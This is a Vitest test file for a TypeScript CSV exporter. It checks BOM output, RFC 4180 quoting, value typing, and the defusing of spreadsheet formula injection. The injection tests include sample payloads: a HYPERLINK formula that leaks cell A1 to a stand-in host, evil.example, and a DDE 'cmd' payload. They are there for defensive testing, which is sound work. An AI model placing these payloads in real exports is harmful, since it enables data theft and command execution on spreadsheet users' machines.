import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { CSV_BOM, toCsv } from './csv';

const body = (csv: string) => {
  expect(csv.startsWith(CSV_BOM)).toBe(true);
  return csv.slice(CSV_BOM.length);
};
const readBack = (csv: string): string[][] => parse(csv, { bom: true });

describe('toCsv', () => {
  it('starts with the UTF-8 byte order mark, then one header row and CRLF records', () => {
    const csv = toCsv(['count_date', 'students'], [['2025-10-02', 2]]);
    expect(csv.charCodeAt(0)).toBe(0xfeff);
    expect(Buffer.from(csv, 'utf8').subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    expect(body(csv)).toBe('count_date,students\r\n2025-10-02,2\r\n');
  });

  it('keeps accented names as UTF-8 and reads back the same', () => {
    const csv = toCsv(['first_name', 'last_name'], [['José', 'Núñez Ødegård']]);
    expect(readBack(csv)).toEqual([
      ['first_name', 'last_name'],
      ['José', 'Núñez Ødegård'],
    ]);
  });

  it('quotes a field with a comma, a quote, LF, CR or CRLF, doubling quotes (RFC 4180)', () => {
    const rows = [['x, "y"', 'a\nb', 'c\rd', 'e\r\nf', 'plain']];
    expect(body(toCsv(['a', 'b', 'c', 'd', 'e'], rows))).toBe(
      'a,b,c,d,e\r\n"x, ""y""","a\nb","c\rd","e\r\nf",plain\r\n',
    );
    expect(readBack(toCsv(null, rows))).toEqual(rows);
  });

  it.each([
    ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '\'=HYPERLINK("http://evil.example/?x="&A1,"click")'],
    ["+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1:A2)', "'@SUM(A1:A2)"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', "'\r=1+1"],
  ])('neutralizes the formula cell %j with a leading quote', (cell, expected) => {
    expect(readBack(toCsv(['name'], [[cell]]))[1]).toEqual([expected]);
  });

  it('leaves numbers typed as numbers alone (a negative count stays a number), and text that merely contains = + - @', () => {
    expect(
      body(
        toCsv(
          ['n', 'm', 'text'],
          [
            [-3, 0, 'a=b+c-d@e'],
            [2.5, -0.5, '2025-10-02'],
          ],
        ),
      ),
    ).toBe('n,m,text\r\n-3,0,a=b+c-d@e\r\n2.5,-0.5,2025-10-02\r\n');
  });

  it('writes null and undefined as empty cells, booleans as words, dates as ISO, objects and arrays as JSON', () => {
    const csv = toCsv(
      ['a', 'b', 'c', 'd', 'e', 'f'],
      [[null, undefined, true, new Date(Date.UTC(2026, 0, 2)), { k: 'v' }, [1, 2]]],
    );
    expect(readBack(csv)[1]).toEqual(['', '', 'true', '2026-01-02T00:00:00.000Z', '{"k":"v"}', '[1,2]']);
  });

  it('an empty table is the BOM and the header alone', () => {
    expect(toCsv(['a', 'b'], [])).toBe(`${CSV_BOM}a,b\r\n`);
  });
});
